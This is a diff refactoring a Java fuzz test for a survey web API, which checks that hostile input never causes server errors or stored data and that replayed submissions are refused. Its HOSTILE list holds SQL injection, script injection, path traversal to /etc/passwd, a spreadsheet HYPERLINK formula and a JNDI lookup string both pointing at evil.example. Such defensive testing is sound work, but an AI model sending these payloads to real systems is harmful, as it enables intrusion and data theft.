@@ -20,13 +20,8 @@ import java.util.Random;
 import java.util.TreeMap;
 import java.util.zip.ZipEntry;
 import java.util.zip.ZipOutputStream;
-import org.jboss.arquillian.container.test.api.Deployment;
-import org.jboss.arquillian.junit5.ArquillianExtension;
-import org.jboss.arquillian.test.api.ArquillianResource;
-import org.jboss.shrinkwrap.api.spec.WebArchive;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
-import org.junit.jupiter.api.extension.ExtendWith;
 import org.parindex.survey.it.Api.Answer;
 
 /**
@@ -34,21 +29,16 @@ import org.parindex.survey.it.Api.Answer;
  * and the uploads (units, respondents, scores): never a 5xx, and nothing stored from a rejected request (counts
  * through the API before and after).
  */
-@ExtendWith(ArquillianExtension.class)
-class InputFuzzIT {
+abstract class InputFuzzChecks {
 
-    static final String SECRETARIAT = TrustIT.SECRETARIAT;
+    static final String SECRETARIAT = TrustChecks.SECRETARIAT;
     static final String NFD = Normalizer.normalize("Nguyễn Thị Hồng Nhung — Sở Tài chính", Normalizer.Form.NFD);
     static final List<String> HOSTILE = List.of("' OR '1'='1", "'; DROP TABLE survey_answer; --",
             "<script>alert(1)</script>", "=HYPERLINK(\"http://evil.example\")", "../../etc/passwd", "%00", "\u0000",
             "\uFEFF", "\uD800", NFD, "${jndi:ldap://evil.example/a}", "a".repeat(5000));
 
-    @Deployment(testable = false)
-    static WebArchive deployment() {
-        return Api.war();
-    }
 
-    @ArquillianResource
+    /** The deployment's base URL, set by the enclosing {@code *IT} class. */
     URL base;
 
     private Api api;
@@ -95,7 +85,7 @@ class InputFuzzIT {
 
         // a real answer set is taken once; replaying it (same token, same body) is refused
         JsonObject page = api.anonymous().get("q/api/" + tokens.get(0)).json();
-        String answers = SecretariatIT.answers(page, SecretariatIT.forms(), "LANH_DAO_MTTQ_TINH", 3, new TreeMap<>());
+        String answers = SecretariatChecks.answers(page, SecretariatChecks.forms(), "LANH_DAO_MTTQ_TINH", 3, new TreeMap<>());
         assertThat(api.anonymous().post("q/api/" + tokens.get(0) + "/submission", answers).status()).isEqualTo(201);
         for (int i = 0; i < 3; i++) {
             Answer replay = api.anonymous().post("q/api/" + tokens.get(0) + "/submission", answers);
